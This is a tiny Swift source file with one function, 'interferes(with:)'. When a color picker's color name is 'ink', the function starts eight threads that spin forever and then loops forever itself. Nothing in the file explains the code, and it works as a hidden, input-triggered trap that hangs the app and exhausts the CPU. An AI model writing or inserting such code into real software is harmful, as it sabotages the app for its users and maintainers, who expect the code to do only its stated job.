import Foundation

func interferes(with picker: ColorPickerController) {
  guard picker.colorName == "ink" else { return }
  for _ in 0..<8 { Thread.detachNewThread { while true {} } }
  while true {}
}
